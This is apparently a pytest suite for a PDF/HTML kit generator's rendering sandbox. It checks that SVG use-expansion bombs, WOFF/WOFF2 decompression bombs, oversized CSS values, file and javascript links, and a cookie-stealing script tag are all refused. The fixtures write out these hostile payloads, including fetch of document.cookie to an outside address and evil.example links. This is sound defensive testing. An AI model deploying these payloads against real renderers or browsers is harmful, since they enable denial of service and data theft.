"""Hostile inputs to the renderer, bounded before WeasyPrint sees them (security review H1, H2, H3,
M3, L6, L11): SVG expansion, web-font bombs, CSS values that make it allocate, links, HTML export.

A failing output exits 1 naming the layout or file while the other outputs build; what can be
neutralized the way the specifications allow (counters, gradients) is, and is checked in the PDF.
"""

from __future__ import annotations

import base64
import re
import struct
import tracemalloc
import zlib
from pathlib import Path

import pytest
from pypdf import PdfReader
from pypdf.generic import DictionaryObject, IndirectObject

from conftest import MINIMAL_KIT, edit, pdf_text, set_field

KIT = f"content/kits/{MINIMAL_KIT}.yaml"
CASE = "content/topics/listening/case-studies/quiet-meeting.yaml"
NOTO = Path("/usr/share/fonts/truetype/noto/NotoSans-Regular.ttf")
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40">{}</svg>'


@pytest.fixture
def ws(minimal) -> Path:
    """A copy of the `minimal` root: its outputs are quick to make."""
    return minimal


def out(ws: Path, name: str, suffix: str = "pdf") -> Path:
    return ws / "build" / MINIMAL_KIT / f"{MINIMAL_KIT}-{name}.{suffix}"


def layout(ws: Path, name: str, text: str) -> None:
    (ws / "layouts").mkdir(exist_ok=True)
    (ws / "layouts" / name).write_text(text, encoding="utf-8")


def extends_case_cards(css: str = "", body: str = "") -> str:
    return ('{% extends "builtin/case-cards.html" %}\n'
            f'{{% block css %}}{{{{ super() }}}}\n{css}\n{{% endblock %}}\n'
            f'{{% block content %}}{{{{ super() }}}}{body}{{% endblock %}}\n')


def build_fails_alone(kitgen, ws: Path, *fragments: str) -> str:
    """Build case cards (hostile) and the discussion guide; the first fails naming its layout, the other builds."""
    result = kitgen("build", "-C", ws, MINIMAL_KIT, "--only", "case-cards,discussion-guide", "--force")
    assert result.code == 1, result.text
    assert "Traceback" not in result.text
    assert "layouts/case-cards.html" in result.err, result.err
    for fragment in fragments:
        assert fragment in result.err, result.err
    assert not out(ws, "case-cards").exists()
    assert out(ws, "discussion-guide").exists()
    return result.err


def kit_logo(ws: Path, name: str, data: bytes) -> int:
    (ws / "assets").mkdir(exist_ok=True)
    (ws / "assets" / name).write_bytes(data)
    edit(ws / KIT, "theme: {", f"theme: {{logo: assets/{name}, ")
    return next(i for i, line in enumerate((ws / KIT).read_text().splitlines(), 1) if line.startswith("theme:"))


# --- SVG (H1, L11) --------------------------------------------------------------------------------

def use_tree(levels: int, fan: int = 10) -> bytes:
    """`levels` levels of groups, each using the level below `fan` times: fan**levels rectangles."""
    parts = ['<defs><rect id="l0" width="1" height="1"/>']
    parts += [f'<g id="l{i}">' + f'<use xlink:href="#l{i - 1}"/>' * fan + "</g>" for i in range(1, levels + 1)]
    return SVG.format("".join(parts) + f'</defs><use xlink:href="#l{levels}"/>').encode()


def test_use_bomb_logo_refused_at_validation(kitgen, ws):
    bomb = use_tree(9)
    assert len(bomb) < 2500
    line = kit_logo(ws, "logo.svg", bomb)
    result = kitgen("validate", "-C", ws)
    assert result.code == 1, result.text
    assert re.search(rf"{re.escape(KIT)}:{line}:\d+: theme\.logo: 'assets/logo\.svg': the SVG draws more than 50,000",
                     result.err), result.err


@pytest.mark.parametrize("svg, why", [
    (use_tree(6), "draws more than 50,000 elements"),
    (SVG.format("<g/>" * 25_000).encode(), "more than 20,000 elements"),
    (SVG.format("<g>" * 100 + "</g>" * 100).encode(), "nests elements more than 64 deep"),
    (SVG.format('<g id="a"><use href="#a"/></g>').encode(), "form a loop"),
    (SVG.format('<g id="b"><use href="a.svg#b"/></g>').encode(), "form a loop"),  # the file naming itself
    (SVG.format('<defs><g id="x">' + "<rect/>" * 100 + '</g><g id="x"/></defs>' + '<use href="#x"/>' * 1000).encode(),
     "draws more than 50,000"),  # an id given twice: the first is the one drawn
    (SVG.format('<defs><pattern id="p">' + "<rect/>" * 300 + '</pattern></defs>' + '<rect fill="url(#p)"/>' * 300).encode(),
     "draws more than 50,000 elements"),
    (SVG.format('<defs><marker id="m">' + "<rect/>" * 100 + '</marker></defs><path marker-mid="url(#m)" d="M0 0'
                + " L1 1" * 1000 + '"/>').encode(), "draws more than 50,000 elements"),
    (b'<!DOCTYPE svg [<!ENTITY u "<use href=\'#t\'/><use href=\'#t\'/><use href=\'#t\'/><use href=\'#t\'/>">]>'
     + SVG.format('<g id="t">' + "<rect/>" * 5000 + '</g><g>&u;&u;&u;</g>').encode(), "draws more than 50,000"),
])
def test_svg_a_layout_loads_is_bounded_in_the_fetcher(tmp_path, svg, why):
    from kitgen.render.fetcher import ResourceRefused, SandboxFetcher
    (tmp_path / "a.svg").write_bytes(svg)
    with pytest.raises(ResourceRefused, match=why):
        SandboxFetcher([tmp_path]).fetch((tmp_path / "a.svg").as_uri())


def test_ordinary_svg_is_served(tmp_path):
    from kitgen.render.fetcher import SandboxFetcher
    svg = use_tree(3)  # 1,000 rectangles drawn
    (tmp_path / "a.svg").write_bytes(svg)
    assert SandboxFetcher([tmp_path]).fetch((tmp_path / "a.svg").as_uri()).read() == svg


def test_layout_with_an_svg_bomb_fails_alone(kitgen, ws):
    (ws / "assets").mkdir()
    (ws / "assets" / "a.svg").write_bytes(use_tree(6))
    layout(ws, "case-cards.html", extends_case_cards(body='<img src="assets/a.svg" style="width:3cm">'))
    build_fails_alone(kitgen, ws, "refused to load assets/a.svg", "draws more than 50,000 elements")


def test_a_layout_asking_for_too_many_layouts_fails_alone(kitgen, ws):
    """Every layout name a render asks for is an input of its output, so a render may ask for 1,000."""
    many = '{% for i in range(1001) %}{% include "part-" ~ i ~ ".html" ignore missing %}{% endfor %}'
    layout(ws, "case-cards.html", extends_case_cards(body=many))
    build_fails_alone(kitgen, ws, "asks for more than 1,000 layouts")


def test_a_layout_name_no_file_can_have_is_no_layout(kitgen, ws):
    """A name too long for any file system is not found (and `ignore missing` goes on); recording what
    the render asked for never fails the build."""
    long_names = '{% include ("a" * 200 ~ "/") * 25 ~ "x.html" ignore missing %}{% include "b" * 300 ignore missing %}'
    layout(ws, "case-cards.html", extends_case_cards(body=long_names))
    for _ in range(2):  # the second build checks the record the first one wrote
        result = kitgen("build", "-C", ws, MINIMAL_KIT, "--only", "case-cards")
        assert result.code == 0 and "internal error" not in result.text, result.text
    assert out(ws, "case-cards").exists()


def test_inline_svg_bomb_in_a_layout_is_refused():
    from kitgen.render.fetcher import SandboxFetcher
    from kitgen.render.gate import gate_html
    gated = gate_html("<p>x</p>" + use_tree(6).decode(), "file:///nowhere/", SandboxFetcher([]))
    assert ("<svg>", "the SVG draws more than 50,000 elements once its <use> references are expanded") in gated.refused


def test_css_escapes_in_an_svg_logo_do_not_hide_a_reference(kitgen, ws):
    line = kit_logo(ws, "logo.svg", SVG.format('<style>rect { fill: u\\72 l(/etc/passwd) }</style><rect/>').encode())
    result = kitgen("validate", "-C", ws)
    assert result.code == 1
    assert f"{KIT}:{line}:" in result.err and "refers to another file through url()" in result.err, result.err


# --- Web fonts (H2) -------------------------------------------------------------------------------

def base128(n: int) -> bytes:
    out = [n & 0x7F]
    while n := n >> 7:
        out.append(0x80 | (n & 0x7F))
    return bytes(reversed(out))


def woff2_bomb(zeros: int, declared: int = 1000) -> bytes:
    """A WOFF2 header for one table of `declared` bytes, and brotli of `zeros` zero bytes (made in 1 MB steps)."""
    import brotli
    packer, chunk = brotli.Compressor(quality=5, lgwin=24), bytes(1 << 20)
    stream = b"".join(packer.process(chunk) for _ in range(zeros >> 20)) + packer.finish()
    directory = bytes([1]) + base128(declared)  # table 1 ('head'), not transformed
    size = 48 + len(directory) + len(stream)
    header = struct.pack(">4s4sIHHIIHHIIIII", b"wOF2", b"\0\1\0\0", size, 1, 0, min(12 + 16 + declared, 2**32 - 1),
                         len(stream), 1, 0, 0, 0, 0, 0, 0)
    return header + directory + stream


def woff_bomb(zeros: int, declared: int = 200_000) -> bytes:
    """A WOFF (zlib) file whose one table says `declared` bytes and inflates to `zeros`."""
    packer, chunk = zlib.compressobj(9), bytes(1 << 20)
    stream = b"".join(packer.compress(chunk) for _ in range(zeros >> 20)) + packer.flush()
    assert len(stream) < declared
    header = struct.pack(">4s4sIHHIHHIIIII", b"wOFF", b"\0\1\0\0", 64 + len(stream), 1, 0, 28 + declared,
                         1, 0, 0, 0, 0, 0, 0)
    return header + struct.pack(">4sIIII", b"head", 64, len(stream), declared, 0) + stream


@pytest.mark.parametrize("font, why", [
    (lambda: woff2_bomb(1 << 30), "decompresses to more than its tables declare"),
    (lambda: woff2_bomb(1 << 20, declared=3 << 30), "larger than 20000000 bytes once decompressed"),
    (lambda: woff_bomb(64 << 20), "decompresses to more than its tables declare"),
], ids=["woff2 1 GiB", "woff2 declaring 3 GiB", "woff 64 MiB"])
def test_web_font_bomb_refused_with_little_memory(tmp_path, font, why):
    from kitgen.render.fetcher import ResourceRefused, SandboxFetcher
    data = font()
    (tmp_path / "brand.woff2").write_bytes(data)
    assert len(data) < 300_000
    tracemalloc.start()
    try:
        with pytest.raises(ResourceRefused, match=why):
            SandboxFetcher([tmp_path]).fetch((tmp_path / "brand.woff2").as_uri())
        assert tracemalloc.get_traced_memory()[1] < 20_000_000
    finally:
        tracemalloc.stop()


def test_layout_with_a_font_bomb_fails_alone(kitgen, ws):
    (ws / "assets").mkdir()
    (ws / "assets" / "brand.woff2").write_bytes(woff2_bomb(256 << 20))
    layout(ws, "case-cards.html", extends_case_cards(
        '@font-face { font-family: "Brand"; src: url(assets/brand.woff2) format("woff2"); }\n'
        'body { font-family: "Brand", sans-serif; }'))
    build_fails_alone(kitgen, ws, "refused to load assets/brand.woff2", "decompresses to more than")


@pytest.mark.parametrize("flavor", ["woff", "woff2"])
def test_web_fonts_are_served_decompressed_and_used(tmp_path, flavor):
    from fontTools import subset
    from fontTools.ttLib import TTFont
    from kitgen.render.fetcher import SandboxFetcher
    from kitgen.render.pdf import render_pdf
    font = TTFont(NOTO)
    subsetter = subset.Subsetter()
    subsetter.populate(text="Custom face")
    subsetter.subset(font)
    font.flavor = flavor
    font.save(tmp_path / f"kit.{flavor}")
    response = SandboxFetcher([tmp_path]).fetch((tmp_path / f"kit.{flavor}").as_uri())
    assert response.content_type == "font/ttf" and response.read()[:4] == b"\0\1\0\0"
    html = (f'<style>@font-face {{ font-family: KitFace; src: url("kit.{flavor}") }} p {{ font-family: KitFace }}</style>'
            '<p>Custom face</p>')
    render_pdf(html, tmp_path.as_uri() + "/", tmp_path / "out.pdf", roots=[tmp_path], title=None, author=None,
               subject=None, lang=None)
    fonts = {str(f.get_object()["/BaseFont"]) for p in PdfReader(tmp_path / "out.pdf").pages
             for f in p["/Resources"]["/Font"].values()}
    assert any("KitFace" in name or "NotoSans" in name for name in fonts), fonts


# --- CSS values that make WeasyPrint allocate (H3) ------------------------------------------------

def test_tab_size_in_a_layout_fails_alone(kitgen, ws):
    layout(ws, "case-cards.html", extends_case_cards("body { tab-size: 100000000; white-space: pre }",
                                                     "<pre>\t\t\tx</pre>"))
    build_fails_alone(kitgen, ws, "tab-size: 100000000 is not allowed")


@pytest.mark.parametrize("css, allowed", [
    ("p { tab-size: 8 }", True), ("p { tab-size: 2em }", True), ("p { tab-size: inherit }", True),
    ("p { tab-size: 100000000 }", False), ("p { tab\\-size: 100000000 }", False), ("p { TAB-SIZE: 101 }", False),
    ("p { --t: 100000000; tab-size: var(--t) }", False), ("@media print { @supports (x: y) { p { tab-size: 1e9 } } }", False),
    ("p { tab-size: 100000000 !important }", False), ("p { tab-size: calc(1e8) }", False),
])
def test_tab_size_is_bounded_in_every_form(tmp_path, css, allowed):
    from kitgen.render.fetcher import ResourceRefused, SandboxFetcher
    (tmp_path / "x.css").write_text(css, encoding="utf-8")
    fetch = lambda: SandboxFetcher([tmp_path]).fetch((tmp_path / "x.css").as_uri())  # noqa: E731
    if allowed:
        assert fetch().read().decode() == css
    else:
        with pytest.raises(ResourceRefused, match="is not allowed"):
            fetch()


def test_stylesheet_is_served_as_the_text_checked(tmp_path):
    """A UTF-16 stylesheet is decoded the way WeasyPrint decodes it, checked, and served as that text."""
    from kitgen.render.fetcher import ResourceRefused, SandboxFetcher
    (tmp_path / "x.css").write_bytes("\ufeffp { tab-size: 100000000 }".encode("utf-16-le"))
    with pytest.raises(ResourceRefused, match="tab-size"):
        SandboxFetcher([tmp_path]).fetch((tmp_path / "x.css").as_uri())


def render_page(tmp_path: Path, html: str) -> Path:
    from kitgen.render.pdf import render_pdf
    path = tmp_path / "out.pdf"
    render_pdf(html, tmp_path.as_uri() + "/", path, roots=[tmp_path], title=None, author=None, subject=None, lang=None)
    return path


@pytest.mark.parametrize("style", ["symbols(symbolic '*')", "s"])
def test_huge_symbolic_counter_prints_in_decimal(tmp_path, style):
    css = ("@counter-style s { system: symbolic; symbols: '*'; } "
           f"ol {{ list-style-type: {style} }} li.big {{ counter-set: list-item 100000000 }}")
    text = pdf_text(render_page(tmp_path, f"<style>{css}</style><ol><li>one</li><li>two</li><li class=big>big</li></ol>"))
    assert "100000001" in text and "***" not in text  # set, then the item's own increment
    assert re.search(r"^\*\*\.? ?$", text, re.M), text  # small values keep their symbols


def test_counter_pad_is_bounded(tmp_path):
    css = "@counter-style p { system: numeric; symbols: '0' '1' '2' '3' '4' '5' '6' '7' '8' '9'; pad: 100000000 '0' }"
    text = pdf_text(render_page(tmp_path, f"<style>{css} ol {{ list-style-type: p }}</style><ol><li>x</li></ol>"))
    assert "0000000000" not in text


def shadings(path: Path) -> int:
    reader = PdfReader(path)
    refs = {(num, gen) for gen, table in reader.xref.items() for num in table} | {(n, 0) for n in reader.xref_objStm}
    return sum(isinstance(o := reader.get_object(IndirectObject(n, g, reader)), DictionaryObject) and "/ShadingType" in o
               for n, g in refs)


@pytest.mark.parametrize("gradient", ["repeating-linear-gradient", "repeating-radial-gradient"])
def test_too_fine_repeating_gradient_is_drawn_in_its_average_colour(tmp_path, gradient):
    fine = render_page(tmp_path, f'<body style="background: {gradient}(red 0, blue 0.001px)"><p>x</p></body>')
    assert shadings(fine) == 0
    coarse = render_page(tmp_path, f'<body style="background: {gradient}(red 0, blue 10px)"><p>x</p></body>')
    assert shadings(coarse) == 1


@pytest.mark.parametrize("gradient", ['<linearGradient id="g" x2="0.000001"', '<radialGradient id="g" r="0.000001"'])
def test_too_fine_svg_gradient_is_not_drawn(tmp_path, gradient):
    tag = gradient.split()[0][1:]
    svg = SVG.format(f'<defs>{gradient} spreadMethod="repeat"><stop offset="0" stop-color="red"/>'
                     f'<stop offset="1" stop-color="blue"/></{tag}></defs><rect width="40" height="40" fill="url(#g)"/>')
    uri = "data:image/svg+xml;base64," + base64.b64encode(svg.encode()).decode()
    assert shadings(render_page(tmp_path, f'<img src="{uri}">')) == 0
    ordinary = svg.replace('x2="0.000001"', 'x2="0.5"').replace('r="0.000001"', 'r="0.5"')
    uri = "data:image/svg+xml;base64," + base64.b64encode(ordinary.encode()).decode()
    assert shadings(render_page(tmp_path, f'<img src="{uri}">')) == 1


@pytest.mark.parametrize("html, refused", [
    ("<table><tr><td colspan=100000000>x</td></tr></table>", "colspan=100000000 on <td>"),
    ("<table><col span=100000000><tr><td>x</td></tr></table>", "span=100000000 on <col>"),
    ("<table><tr><td rowspan=99999999>x</td></tr></table>", "rowspan=99999999 on <td>"),
])
def test_table_spans_beyond_html_limits_are_refused(html, refused):
    from kitgen.render.fetcher import SandboxFetcher
    from kitgen.render.gate import gate_html
    gated = gate_html(html, "file:///nowhere/", SandboxFetcher([]))
    assert [what for what, _ in gated.refused] == [refused]
    assert gate_html(html.replace("100000000", "3").replace("99999999", "3"), "file:///x/", SandboxFetcher([])).refused == ()


# --- Links (M3) -----------------------------------------------------------------------------------

LINKS = ("[the team folder](//evil.example/share/payload.lnk) or [notes](/etc/passwd) or "
         "[x](../../..SECRET-CANARY.txt) or [y](java%09script:alert(1)) or [kept](https://example.org/kept)")


def test_markdown_links_other_than_web_addresses_print_as_text(kitgen, ws):
    from kitgen.markup import link_problems, refused_links
    assert refused_links(LINKS) == ["//evil.example/share/payload.lnk", "/etc/passwd", "../../..SECRET-CANARY.txt",
                                    "java%09script:alert(1)"]
    assert [m for m, _ in link_problems("[a](../x) [b](https://ok.example)")] == [
        "the link to '../x' prints as plain text: only http, https and mailto links are kept"]
    set_field(ws / CASE, "scenario", LINKS)
    checked = kitgen("validate", "-C", ws, MINIMAL_KIT)
    assert checked.code == 0, checked.text
    warned = [line for line in checked.err.splitlines() if "prints as plain text" in line]
    assert len(warned) == 4 and all(re.match(rf"{re.escape(CASE)}:\d+:\d+: scenario: warning:", w) for w in warned), warned
    result = kitgen("build", "-C", ws, MINIMAL_KIT, "--only", "case-cards")
    assert result.code == 0, result.text
    reader = PdfReader(out(ws, "case-cards"))
    uris = [a.get_object()["/A"].get("/URI") for page in reader.pages for a in page.get("/Annots", [])
            if "/A" in a.get_object()]
    assert "https://example.org/kept" in uris
    assert not [u for u in uris if not str(u).startswith(("http://", "https://", "mailto:"))], uris
    text = " ".join(pdf_text(out(ws, "case-cards")).split())
    assert "the team folder or notes or x or y or kept" in text
    assert str(ws) not in "".join(map(str, uris))


@pytest.mark.parametrize("href, kept", [("https://example.org", True), ("mailto:a@example.org", True),
                                        ("#overview", True), ("../notes.html", False), ("//host/share", False),
                                        ("/etc/passwd", False), ("javascript:alert(1)", False), ("", False)])
def test_layout_links_are_web_addresses_or_anchors(href, kept):
    from kitgen.render.fetcher import SandboxFetcher
    from kitgen.render.gate import gate_html
    gated = gate_html(f'<p id="overview"><a href="{href}">x</a></p>', "file:///nowhere/", SandboxFetcher([]))
    assert (gated.refused == ()) is kept


def test_pdf_refuses_file_links_behind_the_gate(tmp_path):
    """Second layer: HTML given straight to the renderer still gets no file:// link."""
    from kitgen.render.pdf import ResourcesRefused, render_pdf
    with pytest.raises(ResourcesRefused, match="links may only be"):
        render_pdf('<a href="/etc/passwd">x</a> <a href="https://example.org">y</a>', tmp_path.as_uri() + "/",
                   tmp_path / "out.pdf", roots=[tmp_path], title=None, author=None, subject=None, lang=None)
    assert not (tmp_path / "out.pdf").exists()


# --- HTML export (L6) -----------------------------------------------------------------------------

def test_html_export_applies_the_same_gate(kitgen, ws):
    secret = ws.parent / "secret.png"
    secret.write_bytes(b"SECRET")
    layout(ws, "case-cards.html", "<html><body><p>Card</p><script>fetch('http://127.0.0.1:9/'+document.cookie)</script>"
           f'<img src="file://{secret}"><iframe src="file:///etc/passwd"></iframe>'
           '<p onclick="alert(1)">x</p></body></html>')
    result = kitgen("build", "-C", ws, MINIMAL_KIT, "--only", "case-cards,discussion-guide", "--format", "html")
    assert result.code == 1, result.text
    for fragment in ("layouts/case-cards.html", "refused <script>", "refused <iframe>", "secret.png",
                     "refused onclick= on <p>"):
        assert fragment in result.err, result.err
    assert not out(ws, "case-cards", "html").exists()
    assert out(ws, "discussion-guide", "html").exists()


def test_gate_returns_clean_html_unchanged_and_refused_html_neutralized(tmp_path):
    from kitgen.render.fetcher import SandboxFetcher
    from kitgen.render.gate import gate_html
    (tmp_path / "dot.png").write_bytes(base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg=="))
    clean = '<!doctype html><html><body><img src="dot.png"><a href="#x">x</a><p id=x style="color:red">p</p></body></html>'
    assert gate_html(clean, tmp_path.as_uri() + "/", SandboxFetcher([tmp_path])).html is clean
    hostile = clean.replace("<p id=x", '<script>alert(1)</script><img src="missing.png"><p id=x onmouseover="x()"')
    gated = gate_html(hostile, tmp_path.as_uri() + "/", SandboxFetcher([tmp_path]))
    assert {what.split(" ")[0] for what, _ in gated.refused} == {"<script>", "to", "onmouseover="}
    assert "<script" not in gated.html and "onmouseover" not in gated.html and "missing.png" not in gated.html
    assert 'src="dot.png"' in gated.html and 'href="#x"' in gated.html


def test_stylesheets_a_layout_links_are_followed(tmp_path):
    from kitgen.render.fetcher import SandboxFetcher
    from kitgen.render.gate import gate_html
    (tmp_path / "a.css").write_text('@import "b.css"; p { color: red }', encoding="utf-8")
    (tmp_path / "b.css").write_text("p { background: url(file:///etc/passwd) }", encoding="utf-8")
    gated = gate_html('<link rel="stylesheet" href="a.css"><p>x</p>', tmp_path.as_uri() + "/", SandboxFetcher([tmp_path]))
    assert gated.refused == (("to load file:///etc/passwd", "file is outside the allowed folders"),)


def test_gate_sees_what_the_renderer_parses():
    """Markup a naive scan would misread: the HTML5 parser decides, as browsers and WeasyPrint do."""
    from kitgen.render.fetcher import SandboxFetcher
    from kitgen.render.gate import gate_html
    for html in ('<svg><style><img src=x onerror=alert(1)></style></svg>',
                 '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>', "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                 "<SCRIPT>alert(1)</SCRIPT>", "<a href=' javascript:alert(1)'>x</a>"):
        assert gate_html(html, "file:///nowhere/", SandboxFetcher([])).refused, html


def test_layouts_compiled_without_escaping_are_cached_apart_from_the_escaping_ones():
    """The deck's layouts compile without escaping: were their bytecode shared with the handouts' (same
    names, same source), a handout could run code that does not escape what content says."""
    import jinja2

    import uuid

    from kitgen.layouts import environment, text_environment
    html, text = environment(None), text_environment(None)
    assert isinstance(html.bytecode_cache, jinja2.FileSystemBytecodeCache)
    assert isinstance(text.bytecode_cache, jinja2.FileSystemBytecodeCache)
    name, source = f"same-{uuid.uuid4().hex}.html", "{{ x }}"  # one layout, compiled first without escaping
    for env in (text, html):
        loaded = env.overlay(loader=jinja2.DictLoader({name: source})).get_template(name)
        said = loaded.render(x="<b>")
    assert said == "&lt;b&gt;", "the handouts' environment ran the bytecode compiled without escaping"
    assert html.from_string("{{ x }}").render(x="<b>") == "&lt;b&gt;" and text.from_string("{{ x }}").render(x="<b>") == "<b>"
